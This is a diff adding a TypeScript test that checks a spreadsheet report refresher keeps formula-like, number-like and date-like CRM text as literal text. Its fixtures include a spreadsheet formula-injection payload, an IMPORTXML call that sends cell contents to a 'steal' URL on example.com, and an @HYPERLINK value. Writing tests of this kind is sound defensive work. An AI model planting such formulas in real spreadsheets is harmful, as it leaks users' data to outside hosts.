@@ -1,0 +1,46 @@
+/**
+ * Formula injection: text from a CRM export that starts with =, +, - or @ (or looks like a number
+ * or a date) must land in the report tabs as exactly that text, never as a formula or a number.
+ */
+import { runRefreshReports } from '../../src/sheets/app';
+import { createFakeServices } from '../fakes/services';
+import { msk, REPORT_NOW } from './helpers';
+
+const EVIL_CHANNEL = '=IMPORTXML("https://example.com/steal?d="&A1,"//a")';
+const PLUS_MANAGER = '+7 (999) 123-45-67';
+const MINUS_CHANNEL = '-1+2';
+const AT_MANAGER = '@HYPERLINK("x")';
+const NUMBERISH_CHANNEL = '00123';
+const DATEISH_MANAGER = '2024-01-01';
+
+test('text that Sheets would evaluate or convert stays text on every report tab', () => {
+  const w = createFakeServices({ timeZone: 'Europe/Moscow' });
+  const ss = w.app.spreadsheet;
+  ss.addSheet('Leads', [
+    ['Lead ID', 'Created at', 'Channel', 'Manager', 'Won at'],
+    ['1', msk('2026-11-02', '10:00'), EVIL_CHANNEL, PLUS_MANAGER, msk('2026-11-05', '10:00')],
+    ['2', msk('2026-11-03', '10:00'), EVIL_CHANNEL, AT_MANAGER, ''],
+    ['3', msk('2026-11-04', '10:00'), MINUS_CHANNEL, DATEISH_MANAGER, ''],
+    ['4', msk('2026-11-05', '10:00'), NUMBERISH_CHANNEL, PLUS_MANAGER, ''],
+    ['5', '=1+1', EVIL_CHANNEL, PLUS_MANAGER, ''],
+  ]);
+  expect(runRefreshReports(w.services, { now: () => REPORT_NOW }).kind).toBe('done');
+
+  for (const name of ['Cohorts', 'Conversions', 'Data issues']) expect(ss.sheet(name).formulaCount()).toBe(0);
+
+  const conv = ss.sheet('Conversions').peekValues();
+  const firstCells = conv.map((r) => r[0]);
+  for (const text of [EVIL_CHANNEL, MINUS_CHANNEL, NUMBERISH_CHANNEL, PLUS_MANAGER, AT_MANAGER, DATEISH_MANAGER]) {
+    expect(firstCells).toContain(text);
+  }
+  // The evil channel's row: 2 leads (row 6 has no usable creation date), 1 won.
+  const evil = conv.find((r) => r[0] === EVIL_CHANNEL)!;
+  expect(evil.slice(0, 3)).toEqual([EVIL_CHANNEL, 2, 1]);
+
+  // The bad creation date is quoted as the value a person typed, as text.
+  const issues = ss.sheet('Data issues').peekValues();
+  const bad = issues.find((r) => r[1] === 6)!;
+  expect(bad[0]).toBe('Leads!A6');
+  expect(bad[2]).toBe('Created at');
+  expect(bad[3]).toBe('=1+1');
+});
